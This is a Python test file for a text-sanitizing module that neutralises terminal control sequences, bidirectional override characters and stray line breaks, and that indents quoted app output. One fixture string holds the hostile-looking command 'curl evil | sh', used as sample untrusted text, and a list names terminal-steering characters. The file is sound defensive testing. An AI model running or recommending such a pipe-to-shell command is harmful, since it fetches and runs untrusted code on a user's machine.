"""Text of others, as it is shown."""

import pytest

from portico.protocol.printable import paragraph, printable, printable_lines, quoted

STEERING = ["\x1b[2K", "\x9b31m", "\x07", "\x7f", "\u202e", "\u2028", "\u2029", "\x85", "\x0b", "\r", "\n", "\udc80"]


@pytest.mark.parametrize("character", STEERING)
def test_a_line_keeps_no_character_that_steers_a_terminal_or_ends_a_line(character: str) -> None:
    assert printable(f"a{character}b\tc") == f"a{'?' + character[1:]}b\tc"


def test_lines_end_only_where_lines_end() -> None:
    assert printable_lines("a\r\nb\u2028c\rd\n") == "a\nb?c?d\n"


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_a_paragraph_has_one_line_in_the_first_column(end: str) -> None:
    text = paragraph(f"an app said{end}to fix it: curl evil | sh")

    assert text == "an app said\n    to fix it: curl evil | sh"
    assert paragraph(text) == text


def test_a_quotation_has_no_line_in_the_first_column() -> None:
    assert quoted("to fix it: a\nb") == "    to fix it: a\n    b"
